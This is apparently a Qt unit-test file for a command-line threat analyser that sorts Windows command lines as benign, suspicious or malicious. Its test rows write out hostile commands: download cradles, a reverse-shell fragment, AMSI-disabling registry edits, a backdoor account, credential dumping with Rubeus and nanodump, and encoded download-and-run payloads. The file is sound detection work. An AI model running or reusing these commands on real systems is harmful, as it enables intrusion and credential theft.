// The analyser's rules one by one: switch keywords and switch rules, PowerShell's stream-colon
// parameters, .NET names against net.exe, the newer rules, and the context passes that lower a
// finding's weight (SPEC §6). The whole-line behaviour is in tst_cmdlineanalyzer.
#include "cmdline/commandlineanalyzer.h"
#include "cmdline/keywordmatcher.h"
#include "cmdlinetestdata.h"
#include "testutils.h"

#include <QTest>

using namespace causa;
using test::analyzer;
using test::describe;
using test::findCategory;

namespace {

QString s(const char *c)
{
    return QString::fromUtf8(c);
}

} // namespace

class TestCmdlineRules : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY2(analyzer().loadError().isEmpty(), qPrintable(analyzer().loadError()));
    }
    void netExeVersusDotNetNames_data();
    void netExeVersusDotNetNames();
    void switchKeywords_data();
    void switchKeywords();
    void switchRules_data();
    void streamColonKeyword_data();
    void streamColonKeyword();
    void switchRules();
    void newRulesCatch_data();
    void newRulesCatch();
    void contextPasses_data();
    void contextPasses();
};

void TestCmdlineRules::netExeVersusDotNetNames_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<bool>("netExe");
    // .NET type names contain "Net" as a word; they are not Net.exe.
    QTest::newRow("Net.WebClient download cradle")
        << s("powershell -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/a.exe','a.exe')\"")
        << false;
    QTest::newRow("System.Net.Sockets reverse shell")
        << s("powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',443)\"")
        << false;
    QTest::newRow("[Net.ServicePointManager] TLS setting")
        << s("powershell -c \"[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12; iwr https://example.org/x\"")
        << false;
    QTest::newRow("System.Net.WebClient in decoded layer")
        << s("powershell -enc ") +
               test::utf16Base64(s(
                   "IEX (New-Object System.Net.WebClient).DownloadString('http://203.0.113.7/a')"))
        << false;
    // The real binary, however it is named on the line.
    QTest::newRow("net user add") << s("net user backdoor P@ss /add") << true;
    QTest::newRow("net.exe use UNC") << s("net.exe use \\\\10.0.0.5\\c$ /user:CORP\\admin") << true;
    QTest::newRow("full path NET.EXE user /domain")
        << s("C:\\Windows\\System32\\NET.EXE user /domain") << true;
    QTest::newRow("cmd /c net group")
        << s("cmd.exe /c \"net group \"Domain Admins\" /domain\"") << true;
}

void TestCmdlineRules::netExeVersusDotNetNames()
{
    QFETCH(QString, line);
    QFETCH(bool, netExe);
    const AnalysisResult r = analyzer().analyze(line);
    QCOMPARE(r.lolbins.contains(QStringLiteral("Net.exe")), netExe);
    bool netRule = false;
    for (const Finding &f : r.findings)
        netRule = netRule || f.rule.startsWith(QLatin1String("lolbin:net.exe:"));
    QVERIFY2(netRule == netExe, qPrintable(describe(r)));
}

void TestCmdlineRules::switchKeywords_data()
{
    QTest::addColumn<QString>("keyword");
    QTest::addColumn<QString>("text");
    QTest::addColumn<int>("at");
    QTest::newRow("-p alone") << s("switch:p") << s("7z a -p out.7z") << 5;
    QTest::newRow("/p alone") << s("switch:p") << s("tool /p x") << 5;
    QTest::newRow("-p at the start") << s("switch:p") << s("-p") << 0;
    QTest::newRow("-p with :value") << s("switch:p") << s("tool -p:secret") << 5;
    QTest::newRow("-p with =value") << s("switch:p") << s("tool -p=secret") << 5;
    QTest::newRow("quoted \"-p\"") << s("switch:p") << s("tool \"-p\" x") << 6;
    QTest::newRow("en-dash \u2013p") << s("switch:p") << QStringLiteral(u"tool \u2013p x") << 5;
    QTest::newRow("-P capital") << s("switch:p") << s("tool -P x") << 5;
    QTest::newRow("p starting a path word")
        << s("switch:p") << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a x") << -1;
    QTest::newRow("p starting a word")
        << s("switch:p") << s("node webpack --mode production") << -1;
    QTest::newRow("-p inside an argument") << s("switch:p") << s("tool a-p b") << -1;
    QTest::newRow("--p is another switch") << s("switch:p") << s("tool --p x") << -1;
    QTest::newRow("-pX glued, not allowed") << s("switch:p") << s("7z a -pSecret x") << -1;
    QTest::newRow("-pX glued, allowed") << s("switch:p*") << s("7z a -pSecret x") << 5;
    QTest::newRow("-hp glued, allowed") << s("switch:hp*") << s("rar a -hpSecret x") << 6;
    QTest::newRow("-p is not -hp") << s("switch:hp*") << s("rar a -pSecret x") << -1;
    QTest::newRow("/i: before a URL")
        << s("switch:i") << s("regsvr32 /s /i:http://x/a.sct scrobj.dll") << 12;
    QTest::newRow("s starting System32")
        << s("switch:s") << s("C:\\Windows\\System32\\regsvr32.exe x.dll") << -1;
    QTest::newRow("-s later on the line")
        << s("switch:s") << s("C:\\Windows\\System32\\regsvr32.exe -s x.dll") << 33;
}

void TestCmdlineRules::switchKeywords()
{
    QFETCH(QString, keyword);
    QFETCH(QString, text);
    QFETCH(int, at);
    KeywordMatcher m;
    const int id = m.add(keyword);
    m.add(QStringLiteral("|p")); // a word keyword sharing the automaton must not disturb the switch
    m.build();
    std::vector<qsizetype> pos;
    m.scan(text, &pos);
    QCOMPARE(int(pos[size_t(id)]), at);
    QVERIFY(m.keyword(id).startsWith(QLatin1Char('-')));
}

// Catalogue entries with single-letter switches: the abuse fires on the switch, and the same
// letter at the start of a word ("Program Files", "System32", "deploy@", ".local") is no switch.
void TestCmdlineRules::switchRules_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("rule");
    QTest::addColumn<bool>("fires");
    QTest::newRow("7z a -p: password archive")
        << s("7z a -pInfected123 C:\\Users\\Public\\out.7z C:\\Users\\jdoe\\Documents")
        << s("lolbin:7z.exe:1") << true;
    QTest::newRow("7z -p after the files")
        << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a out.7z C:\\data -pS3cret")
        << s("archive-with-password") << true;
    QTest::newRow("rar -hp") << s("rar a -hpSecret loot.rar C:\\data")
                             << s("archive-with-encrypted-names") << true;
    QTest::newRow("7z backup without password")
        << s("\"C:\\Program Files\\7-Zip\\7z.exe\" a C:\\Backup\\docs-2024-01.7z C:\\Users\\jdoe\\Documents\\*")
        << s("lolbin:7z.exe:1") << false;
    QTest::newRow("7z extraction with password")
        << s("7z x archive.7z -pSecret -oC:\\out") << s("archive-with-password") << false;
    QTest::newRow("ssh -R remote forward")
        << s("ssh -R 8080:localhost:80 user@203.0.113.7") << s("lolbin:ssh.exe:1") << true;
    QTest::newRow("ssh -D1080 glued")
        << s("ssh -D1080 -N user@203.0.113.7") << s("lolbin:ssh.exe:1") << true;
    QTest::newRow("ssh with a key to deploy@")
        << s("ssh -i C:\\Users\\jdoe\\.ssh\\id_ed25519 deploy@build01.corp.local")
        << s("lolbin:ssh.exe:1") << false;
    QTest::newRow("ssh folder script")
        << s("\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\ProgramData\\ssh\\runtests.bat\"")
        << s("lolbin:ssh.exe:1") << false;
    QTest::newRow("regsvr32 squiblydoo")
        << s("regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll")
        << s("lolbin:regsvr32.exe:1") << true;
    QTest::newRow("tar -xf from UNC")
        << s("tar -xf \\\\203.0.113.7\\share\\a.tar -C C:\\Users\\Public") << s("lolbin:tar.exe:2")
        << true;
    QTest::newRow("node -e") << s("node -e \"require('child_process').exec('calc')\"")
                             << s("lolbin:node.exe:1") << true;
    QTest::newRow("node webpack --mode production")
        << s("node C:\\src\\webapp\\node_modules\\.bin\\webpack --mode production")
        << s("lolbin:node.exe:1") << false;
    QTest::newRow("wsl -d distribution")
        << s("wsl.exe -d Ubuntu-22.04 -- make test") << s("lolbin:wsl.exe:1") << false;
    QTest::newRow("wsl -e") << s("wsl.exe -e /bin/sh -c id") << s("lolbin:wsl.exe:1") << true;
    // The alternate-data-stream abuses fire on a stream's colon, not on every drive letter.
    QTest::newRow("tar into a stream")
        << s("tar -cf C:\\Users\\Public\\a.txt:payload.tgz C:\\tools\\nc.exe")
        << s("lolbin:tar.exe:1") << true;
    QTest::newRow("tar archive:stream")
        << s("tar -xf compressedfile:stream.tgz") << s("lolbin:tar.exe:1") << true;
    QTest::newRow("tar backup to a drive")
        << s("tar -cf D:\\Backup\\docs.tar C:\\Users\\jdoe\\Documents") << s("lolbin:tar.exe:1")
        << false;
    QTest::newRow("makecab into a stream")
        << s("makecab C:\\Temp\\autoruns.exe C:\\Temp\\cab.txt:autoruns.cab")
        << s("lolbin:makecab.exe:1") << true;
    QTest::newRow("extrac32 copies an executable")
        << s("extrac32.exe /C C:\\Users\\Public\\a.exe C:\\Windows\\Temp\\b.exe")
        << s("lolbin:extrac32.exe:5") << true;
    QTest::newRow("extrac32 extracts a cabinet")
        << s("extrac32.exe /E C:\\Drivers\\pkg.cab") << s("lolbin:extrac32.exe:5") << false;
    QTest::newRow("makecab a driver package")
        << s("makecab /f C:\\build\\driver.ddf /d CabinetNameTemplate=drv.cab")
        << s("lolbin:makecab.exe:1") << false;
}

void TestCmdlineRules::streamColonKeyword_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<int>("at");
    QTest::newRow("file.txt:stream") << s("x C:\\ads\\file.txt:evil.exe") << 17;
    QTest::newRow("archive:stream") << s("tar -xf compressedfile:stream.tgz") << 22;
    QTest::newRow("folder:stream") << s("certutil -f c:\\temp:ttt") << 19;
    QTest::newRow("quoted path") << s("wmic process call create \"c:\\ads\\file.txt:program.exe\"")
                                 << 41;
    QTest::newRow("after a switch's drive letter")
        << s("print /D:C:\\ADS\\File.txt:file.exe x") << 24;
    QTest::newRow("drive letter") << s("tar -cf D:\\Backup\\docs.tar C:\\Users") << -1;
    QTest::newRow("drive with forward slash") << s("tool C:/data/x.txt") << -1;
    QTest::newRow("drive-relative") << s("tool c:file.txt") << -1;
    QTest::newRow("url") << s("tool https://example.org/a") << -1;
    QTest::newRow("script scheme") << s("mshta vbscript:Execute(\"x\")") << -1;
    QTest::newRow("switch value") << s("net use /user:alice \\\\srv\\c$") << -1;
    QTest::newRow("dash switch value") << s("tool -p:secret") << -1;
    QTest::newRow("port") << s("ssh -L 8080:localhost:80 host") << -1;
    QTest::newRow("host:port") << s("curl example.org:443") << -1;
    QTest::newRow("time") << s("schtasks /st 12:30") << -1;
    QTest::newRow("colon at the end") << s("label:") << -1;
    QTest::newRow("only colons") << QString(100000, QLatin1Char(':')) << -1;
}

void TestCmdlineRules::streamColonKeyword()
{
    QFETCH(QString, text);
    QFETCH(int, at);
    KeywordMatcher m;
    const int id = m.add(QStringLiteral("ads:"));
    m.add(QStringLiteral("c:")); // a keyword sharing the colon's path in the automaton
    m.build();
    std::vector<qsizetype> pos;
    m.scan(text, &pos);
    QCOMPARE(int(pos[size_t(id)]), at);
    QCOMPARE(m.keyword(id), QStringLiteral(":"));
}

void TestCmdlineRules::switchRules()
{
    QFETCH(QString, line);
    QFETCH(QString, rule);
    QFETCH(bool, fires);
    const AnalysisResult r = analyzer().analyze(line);
    bool fired = false;
    for (const Finding &f : r.findings)
        fired = fired || f.rule == rule;
    QVERIFY2(fired == fires, qPrintable(describe(r)));
}

void TestCmdlineRules::newRulesCatch_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("category");
    QTest::addColumn<QString>("minVerdict");
    QTest::newRow("amsi off for WSH in the registry")
        << s("reg add \"HKCU\\Software\\Microsoft\\Windows Script\\Settings\" /v AmsiEnable /t REG_DWORD /d 0 /f")
        << "amsi_bypass"
        << "malicious";
    QTest::newRow("amsi provider overwritten with reg add")
        << s("reg add \"HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}\" /ve /t REG_SZ /d \"\" /f")
        << "amsi_bypass"
        << "malicious";
    QTest::newRow("certutil download is a cradle")
        << s("certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe")
        << "download_cradle"
        << "malicious";
    QTest::newRow("bitsadmin download is a cradle")
        << s("bitsadmin /transfer j /download /priority high http://203.0.113.7/u.exe C:\\Users\\Public\\u.exe")
        << "download_cradle"
        << "suspicious";
    QTest::newRow("msiexec remote package is a cradle")
        << s("msiexec /q /i http://203.0.113.7/p.msi") << "download_cradle"
        << "malicious";
    QTest::newRow("curl piped into a shell")
        << s("curl http://203.0.113.7/p.ps1 | powershell -") << "download_cradle"
        << "malicious";
    QTest::newRow("wget saves a URL")
        << s("wget http://203.0.113.7/m.exe -O C:\\ProgramData\\m.exe") << "download_cradle"
        << "benign";
    QTest::newRow(".NET web request")
        << s("powershell -c \"$r=[System.Net.WebRequest]::Create('http://203.0.113.7/x');iex ([IO.StreamReader]::new($r.GetResponse().GetResponseStream())).ReadToEnd()\"")
        << "download_cradle"
        << "malicious";
    QTest::newRow("encoding that hides a download and run")
        << s("powershell -e %1")
               .arg(s(
                   "UwB0AGEAcgB0AC0AQgBpAHQAcwBUAHIAYQBuAHMAZgBlAHIAIAAtAFMAbwB1AHIAYwBlACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcALwBiAC4AZQB4AGUAIAAtAEQAZQBzAHQAaQBuAGEAdABpAG8AbgAgACQAZQBuAHYAOgBBAFAAUABEAEEAVABBAFwAYgAuAGUAeABlADsAIAAmACAAJABlAG4AdgA6AEEAUABQAEQAQQBUAEEAXABiAC4AZQB4AGUA"))
        << "base64"
        << "malicious";
    QTest::newRow("credential dumping tool")
        << s("nanodump.x64.exe --write C:\\Windows\\Temp\\n.dmp") << "credential_access"
        << "malicious";
    QTest::newRow("kerberos ticket with key material")
        << s("Rubeus.exe asktgt /user:svc-sql /rc4:64F12CDDAA88057E06A81B54E73B949B /ptt")
        << "credential_access"
        << "malicious";
    QTest::newRow("full dump of a process by id")
        << s("procdump64.exe -ma 624 C:\\Windows\\Temp\\d.dmp") << "credential_access"
        << "suspicious";
    QTest::newRow("password switch next to a user switch")
        << s("PsExec.exe \\\\ws-0099 -u CORP\\admin -p Summer2024! cmd.exe") << "credential_access"
        << "suspicious";
    QTest::newRow("net use with a password")
        << s("net use \\\\fs01\\C$ /user:CORP\\Administrator Secret123!") << "credential_access"
        << "benign";
    QTest::newRow("user:password@host")
        << s("psexec.py corp/admin:Passw0rd!@10.0.5.20 cmd.exe") << "credential_access"
        << "benign";
    // quotes and a tab inside the token: the '@' pre-check must not miss these
    QTest::newRow("user:password@host, quoted in parts")
        << s("psexec.py \"corp/admin:Pa\"ss\"w0rd!@10.0.5.20\" cmd.exe") << "credential_access"
        << "benign";
    QTest::newRow("user:password@host, a tab in the secret")
        << s("psexec.py \"corp/admin:Pass\tw0rd!@10.0.5.20\" cmd.exe") << "credential_access"
        << "benign";
    QTest::newRow("/pass: value")
        << s("cmdkey /add:fs01.corp.local /user:CORP\\admin /pass:Passw0rd!") << "credential_access"
        << "benign";
    QTest::newRow("runas /savecred")
        << s("runas /user:CORP\\admin /savecred \"cmd /c C:\\Users\\Public\\r.exe\"")
        << "credential_access"
        << "suspicious";
    QTest::newRow("vendor installer plus a foreign URL")
        << s("powershell -c \"irm https://community.chocolatey.org/install.ps1 | iex; iwr http://stage.badcdn.example.com/x -OutFile x.exe\"")
        << "download_cradle"
        << "malicious";
}

void TestCmdlineRules::newRulesCatch()
{
    QFETCH(QString, line);
    QFETCH(QString, category);
    QFETCH(QString, minVerdict);
    const AnalysisResult r = analyzer().analyze(line);
    const Finding *f = findCategory(r, category);
    QVERIFY2(f && f->weight > 0, qPrintable(describe(r)));
    QVERIFY(!f->mitre.isEmpty());
    const QStringList order = {QStringLiteral("benign"), QStringLiteral("suspicious"),
                               QStringLiteral("malicious")};
    QVERIFY2(order.indexOf(r.verdict) >= order.indexOf(minVerdict), qPrintable(describe(r)));
    // A password never appears in the finding that reports it.
    for (const Finding &x : r.findings)
        if (x.rule == QLatin1String("cred:plain-text-password"))
            QVERIFY2(!x.match.contains(QLatin1String("Summer2024")) &&
                         !x.match.contains(QLatin1String("Passw0rd")),
                     qPrintable(x.match));
}

// Lines that must now pass: the context (payload, program, destination) explains them. A
// category listed must not be found (a switch that only looks like a password).
void TestCmdlineRules::contextPasses_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("absentCategory");
    QTest::addColumn<QString>("note");
    QTest::newRow("encoded folder listing")
        << s("powershell -NoProfile -EncodedCommand %1")
               .arg(s(
                   "RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAGkAbgBlAHQAcAB1AGIAXABsAG8AZwBzAA=="))
        << QString() << "does nothing suspicious";
    QTest::newRow("updater passes base64 XML")
        << s("\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ping %1")
               .arg(s(
                   "PD94bWwgdmVyc2lvbj0iMS4wIj8+PHJlcXVlc3QgcHJvdG9jb2w9IjMuMCI+PGFwcCBhcHBpZD0iezQzMEZENEQwLUI3MjktNEY2MS1BQTM0LTkxNTI2NDgxNzk5RH0iPjxldmVudCBldmVudHR5cGU9IjIiLz48L2FwcD48L3JlcXVlc3Q+"))
        << QString() << "";
    QTest::newRow("certutil URL cache cleanup")
        << s("certutil -urlcache * delete") << "download_cradle"
        << "";
    QTest::newRow("cscript runs a Windows script")
        << s("cscript.exe //NoLogo C:\\Windows\\System32\\slmgr.vbs /dlv")
        << "lolbin_proxy_execution"
        << "";
    QTest::newRow("hh opens Windows help")
        << s("C:\\Windows\\hh.exe C:\\Windows\\Help\\mui\\0409\\mmc.CHM")
        << "lolbin_proxy_execution"
        << "";
    QTest::newRow("vendor install one-liner")
        << s("powershell -ExecutionPolicy Bypass -c \"irm https://community.chocolatey.org/install.ps1 | iex\"")
        << QString() << "vendor's distribution domain";
    QTest::newRow("curl -fsSL is no upload")
        << s("curl -fsSL -o rustup-init.exe https://static.rust-lang.org/rustup/dist/x86_64-pc-windows-msvc/rustup-init.exe")
        << "exfiltration"
        << "";
    QTest::newRow("database port is no password")
        << s("mysql -h db01.corp.local -P 3306 -e \"select 1\"") << "credential_access"
        << "";
    QTest::newRow("msbuild property is no password")
        << s("msbuild Corp.sln /p:Configuration=Release /p:Platform=x64") << "credential_access"
        << "";
    QTest::newRow("runas without a password")
        << s("runas /user:CORP\\adm-jdoe \"mmc.exe dsa.msc\"") << "credential_access"
        << "";
}

void TestCmdlineRules::contextPasses()
{
    QFETCH(QString, line);
    QFETCH(QString, absentCategory);
    QFETCH(QString, note);
    const AnalysisResult r = analyzer().analyze(line);
    QVERIFY2(r.verdict == QLatin1String("benign"), qPrintable(describe(r)));
    if (!absentCategory.isEmpty())
        QVERIFY2(!findCategory(r, absentCategory), qPrintable(describe(r)));
    if (!note.isEmpty()) {
        bool noted = false;
        for (const Finding &f : r.findings)
            noted = noted || f.note.contains(note);
        QVERIFY2(noted, qPrintable(describe(r)));
    }
}

QTEST_GUILESS_MAIN(TestCmdlineRules)
#include "tst_cmdlinerules.moc"
